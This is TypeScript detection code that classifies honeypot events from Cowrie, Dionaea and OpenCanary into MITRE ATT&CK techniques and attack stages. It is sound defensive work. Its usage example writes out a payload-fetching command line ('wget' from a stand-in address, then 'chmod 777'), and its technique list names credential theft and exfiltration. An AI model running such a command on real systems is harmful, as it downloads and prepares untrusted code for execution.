import type { EventFieldName, EventFields } from '../../data/index.js';
import { COMMAND_RULES, type CommandRule } from './command-rules.js';
import { type ShellCommand, shellCommands } from './command-words.js';
import { type EventMatcher, eventMatcher, valueTest } from './event-condition.js';

/** How far an attack has come, from the least to the furthest. */
export const ATTACK_STAGES = [
  'connect',
  'login-attempt',
  'login',
  'proxy',
  'command',
  'discovery',
  'evasion',
  'persistence',
  'transfer',
  'impact',
] as const;

/** A technique of MITRE ATT&CK, and the stage of an attack that it belongs to here. */
export interface AttackTechnique {
  readonly id: string;
  readonly name: string;
  readonly stage: (typeof ATTACK_STAGES)[number];
}

/** A technique by its id, its name in ATT&CK 17.0, and our stage. */
const technique = (stage: AttackTechnique['stage'], id: string, name: string): AttackTechnique => ({
  id,
  name,
  stage,
});

/** The techniques that are told apart, from the least to the furthest: of several, the last in this list is taken. */
export const ATTACK_TECHNIQUES: readonly AttackTechnique[] = [
  technique('connect', 'T1595', 'Active Scanning'),
  technique('login-attempt', 'T1110', 'Brute Force'),
  technique('login', 'T1078', 'Valid Accounts'),
  technique('proxy', 'T1090', 'Proxy'),
  technique('command', 'T1059.004', 'Unix Shell'),
  technique('discovery', 'T1083', 'File and Directory Discovery'),
  technique('discovery', 'T1033', 'System Owner/User Discovery'),
  technique('discovery', 'T1057', 'Process Discovery'),
  technique('discovery', 'T1082', 'System Information Discovery'),
  technique('discovery', 'T1016', 'System Network Configuration Discovery'),
  technique('discovery', 'T1049', 'System Network Connections Discovery'),
  technique('discovery', 'T1087', 'Account Discovery'),
  technique('discovery', 'T1046', 'Network Service Discovery'),
  technique('discovery', 'T1552.001', 'Credentials In Files'),
  technique('discovery', 'T1003.008', '/etc/passwd and /etc/shadow'),
  technique('evasion', 'T1027', 'Obfuscated Files or Information'),
  technique('evasion', 'T1222.002', 'Linux and Mac File and Directory Permissions Modification'),
  technique('evasion', 'T1070', 'Indicator Removal'),
  technique('evasion', 'T1562', 'Impair Defenses'),
  technique('persistence', 'T1053.003', 'Cron'),
  technique('persistence', 'T1543.002', 'Systemd Service'),
  technique('persistence', 'T1037.004', 'RC Scripts'),
  technique('persistence', 'T1098', 'Account Manipulation'),
  technique('persistence', 'T1136', 'Create Account'),
  technique('persistence', 'T1098.004', 'SSH Authorized Keys'),
  technique('transfer', 'T1105', 'Ingress Tool Transfer'),
  technique('transfer', 'T1048', 'Exfiltration Over Alternative Protocol'),
  technique('transfer', 'T1021.004', 'SSH'),
  technique('impact', 'T1489', 'Service Stop'),
  technique('impact', 'T1529', 'System Shutdown/Reboot'),
  technique('impact', 'T1485', 'Data Destruction'),
  technique('impact', 'T1496', 'Resource Hijacking'),
];

/** What events show by themselves; the first that fits says it. Commands are looked into. */
const EVENT_RULES: readonly { readonly technique: string; readonly event: EventMatcher }[] = [
  rule('T1078', { 'event.action': 'cowrie.login.success' }),
  rule('T1110', {
    'event.action': [
      ...['cowrie.login.failed', 'dionaea.login', 'opencanary.*_login_attempt', 'opencanary.mssql_login_*'],
      ...['opencanary.ftp_auth_attempt_initiated', 'opencanary.vnc'],
    ],
  }),
  rule('T1090', { 'event.action': ['cowrie.direct-tcpip.*', 'cowrie.tunnelproxy-tcpip.*'] }),
  rule('T1105', { 'event.action': ['cowrie.session.file_upload', 'dionaea.download', 'dionaea.offer'] }),
  // What a command wrote to a file is logged as a download too, without an address.
  rule('T1105', { 'event.action': 'cowrie.session.file_download*', 'url.original': '*://*' }),
  rule('T1595', {
    'event.action': [
      ...['cowrie.session.connect', 'dionaea.connection', 'dionaea.connection.*', 'dionaea.session'],
      ...['opencanary.*_new_connection', 'opencanary.*_connection_made', 'opencanary.port_*'],
      ...['opencanary.http_get', 'opencanary.http_unimplemented_method', 'opencanary.rdp'],
      ...['opencanary.sip_request', 'opencanary.ntp_monlist', 'opencanary.snmp_cmd', 'opencanary.tftp'],
    ],
  }),
];

/** Commands of a shell; those of a database or FTP server are none. */
const SHELL = eventMatcher({ 'event.action': ['cowrie.command.*', 'cowrie.session.input'] }, 'taxonomy');

/** The fields that a technique is read from. */
export const TECHNIQUE_FIELDS: readonly EventFieldName[] = [
  'event.action',
  'process.command_line',
  'url.original',
];

const BY_ID: ReadonlyMap<string, AttackTechnique> = new Map(ATTACK_TECHNIQUES.map((one) => [one.id, one]));
const RANKS: ReadonlyMap<AttackTechnique, number> = new Map(
  ATTACK_TECHNIQUES.map((one, rank) => [one, rank]),
);
const RULES = COMMAND_RULES.map((one) => ({ technique: BY_ID.get(one.technique)!, fits: commandTest(one) }));

/**
 * Returns the technique of MITRE ATT&CK that an event of a honeypot shows, undefined where it shows none, as a session that
 * ends. Of a command line it is the furthest of its commands, `T1059.004 Unix Shell` where none of them is known. Cost
 * O(length of the command line), whatever it holds.
 *
 * @example
 * ```ts
 * const line = 'cd /tmp; wget http://192.0.2.7/x; chmod 777 x';
 * attackTechnique({ 'event.action': 'cowrie.command.input', 'process.command_line': line })?.name; // 'Ingress Tool Transfer'
 * attackTechnique({ 'event.action': 'cowrie.session.closed' }); // undefined
 * ```
 */
export function attackTechnique(event: EventFields): AttackTechnique | undefined {
  const found = EVENT_RULES.find((one) => one.event.matches(event));
  if (found !== undefined) return BY_ID.get(found.technique);
  const line = event['process.command_line'];
  return typeof line === 'string' && SHELL.matches(event) ? commandTechnique(line) : undefined;
}

function commandTechnique(line: string): AttackTechnique {
  let furthest = BY_ID.get('T1059.004')!;
  for (const command of shellCommands(line)) {
    const found = RULES.find(({ fits }) => fits(command))?.technique;
    if (found !== undefined && RANKS.get(found)! > RANKS.get(furthest)!) furthest = found;
  }
  return furthest;
}

function commandTest({ programs, words, unless, writes }: CommandRule): (command: ShellCommand) => boolean {
  const one = (tests: readonly string[] | undefined) => (tests === undefined ? undefined : valueTest(tests));
  const [isProgram, isWord, isExcuse, isWritten] = [one(programs), one(words), one(unless), one(writes)];
  return (command) =>
    (isProgram === undefined || isProgram(command.name)) &&
    (isWord === undefined || command.words.some(isWord)) &&
    (isExcuse === undefined || !command.words.some(isExcuse)) &&
    (isWritten === undefined || command.writes.some(isWritten));
}

function rule(id: string, event: Parameters<typeof eventMatcher>[0]) {
  return { technique: id, event: eventMatcher(event, 'taxonomy') };
}
